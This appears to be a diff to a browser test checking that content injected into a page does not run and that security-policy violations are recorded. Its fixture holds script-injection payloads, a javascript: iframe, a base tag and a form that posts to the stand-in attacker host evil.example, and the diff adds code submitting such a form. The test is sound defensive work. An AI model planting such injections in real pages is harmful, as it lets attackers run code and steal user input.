@@ -38,8 +38,7 @@ test("what got into a page does not run, whether it is written there or was uplo
     <script src="data:text/javascript,window.ran='data'"></script>
     <style>body { display: none }</style>
     <base href="https://evil.example/">
-    <iframe src="javascript:parent.ran='frame'"></iframe>
-    <form id="stolen" action="https://evil.example/"><input name="word"></form>`;
+    <iframe src="javascript:parent.ran='frame'"></iframe>`;
   // React does not know what was put into its page.
   expectErrors(/nothing-here|Minified React error/);
   await page.route("/about", async (route) => {
@@ -48,7 +47,10 @@ test("what got into a page does not run, whether it is written there or was uplo
   });
   await page.goto("/about");
   await page.evaluate(() => {
-    document.querySelector<HTMLFormElement>("#stolen")?.submit();
+    const form = document.createElement("form");
+    form.action = "https://evil.example/";
+    document.body.appendChild(form);
+    form.submit();
   });
   await expect
     .poll(() => [...new Set(violations.map((violation) => violation.split(" ")[1]))].sort())
